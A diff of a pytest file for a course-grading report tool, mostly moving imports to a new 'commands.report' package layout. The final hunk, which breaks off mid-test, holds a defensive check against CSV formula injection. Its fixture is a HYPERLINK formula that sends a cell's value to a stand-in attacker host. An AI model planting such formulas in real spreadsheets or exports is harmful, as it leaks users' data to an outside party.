@@ -16,7 +16,7 @@ from html.parser import HTMLParser
 import pytest
 import report_classgen as gen
 
-from canvastools.report import EXTRA, MISSED
+from canvastools.commands.report.build import EXTRA, MISSED
 
 pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
 
@@ -214,7 +214,7 @@ def pages(cls):
 
 @pytest.fixture(scope="module")
 def reports(cls):
-    from canvastools.report import load_report
+    from canvastools.commands.report.build import load_report
 
     return {a: load_report(a, cls.course) for a in (gen.SIX, gen.EIGHT)}
 
@@ -237,7 +237,7 @@ def test_scores_and_distribution(cls, reports, pages, assignment):
 
 @pytest.mark.parametrize("assignment", ASSIGNMENTS)
 def test_item_table(cls, reports, pages, assignment):
-    from canvastools.report import item_table
+    from canvastools.commands.report.build import item_table
 
     want = expected_items(cls, assignment)
     got = item_table(reports[assignment])
@@ -270,7 +270,7 @@ def test_item_table(cls, reports, pages, assignment):
 @pytest.mark.parametrize("assignment,exercise", [(gen.SIX, "cases"), (gen.EIGHT, "cases8"),
                                                  (gen.SIX, "motives")])
 def test_confusion_counts(cls, reports, pages, assignment, exercise):
-    from canvastools.report import confusions
+    from canvastools.commands.report.build import confusions
 
     ids = pool(exercise)
     want = expected_confusion(cls, assignment, exercise, ids)
@@ -290,7 +290,7 @@ def test_confusion_counts(cls, reports, pages, assignment, exercise):
 
 
 def test_confusion_has_eight_types_for_strategyzer(reports):
-    from canvastools.report import confusion
+    from canvastools.commands.report.build import confusion
 
     conf = confusion(reports[gen.EIGHT])
     assert conf.taxonomy == "strategyzer" and len(conf.ids) == 8
@@ -298,7 +298,7 @@ def test_confusion_has_eight_types_for_strategyzer(reports):
 
 
 def test_motivation_accuracy(cls, reports, pages):
-    from canvastools.report import motivation_table
+    from canvastools.commands.report.build import motivation_table
 
     answers = graded_answers(cls, gen.SIX)
     want = []
@@ -321,7 +321,7 @@ def test_motivation_accuracy(cls, reports, pages):
 
 @pytest.mark.parametrize("assignment", ASSIGNMENTS)
 def test_hardest_items(cls, reports, pages, assignment):
-    from canvastools.report import hardest_items
+    from canvastools.commands.report.build import hardest_items
 
     want = hardest(expected_items(cls, assignment))
     assert [r["item"] for r in hardest_items(reports[assignment])] == want
@@ -330,7 +330,7 @@ def test_hardest_items(cls, reports, pages, assignment):
 
 @pytest.mark.parametrize("assignment", ASSIGNMENTS)
 def test_students_needing_help(cls, reports, pages, assignment):
-    from canvastools.report import students_needing_help
+    from canvastools.commands.report.build import students_needing_help
 
     report = reports[assignment]
     want = expected_help(cls, assignment, report.max_score)
@@ -455,8 +455,8 @@ def test_figure_functions_draw_on_the_given_axes(reports):
     import matplotlib
     from matplotlib.figure import Figure
 
-    from canvastools.report import confusion, item_table
-    from canvastools.report_figures import (
+    from canvastools.commands.report.build import confusion, item_table
+    from canvastools.commands.report.figures import (
         plot_answer_split,
         plot_confusion,
         plot_item_results,
@@ -479,14 +479,15 @@ def test_docstring_examples():
     import doctest
     import importlib
 
-    for name in ("canvastools.report", "canvastools.report_figures", "canvastools.item_stats",
-                 "canvastools.report_analysis"):
+    for name in ("canvastools.commands.report.build", "canvastools.commands.report.figures",
+                 "canvastools.commands.report.item_stats",
+                 "canvastools.commands.report.analysis"):
         assert doctest.testmod(importlib.import_module(name)).failed == 0
 
 
 def test_report_module_is_light():
-    done = subprocess.run([sys.executable, "-c", "import sys, canvastools.report, "
-                           "canvastools.report_analysis; print("
+    done = subprocess.run([sys.executable, "-c", "import sys, canvastools.commands.report.build, "
+                           "canvastools.commands.report.analysis; print("
                            "[m for m in ('matplotlib', 'nbgrader') if m in sys.modules])"],
                           capture_output=True, text=True, timeout=120)
     assert done.stdout.strip() == "[]", done.stdout + done.stderr
@@ -534,7 +535,7 @@ def test_a_choice_that_looks_like_a_formula_stays_text_in_the_csv(cls, tmp_path)
 
     course = tmp_path / "course"
     shutil.copytree(cls.course, course)
-    from canvastools.records import records_folder
+    from canvastools.grader.records import records_folder
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     # every student rescored from the answer file, each choosing only the formula for one
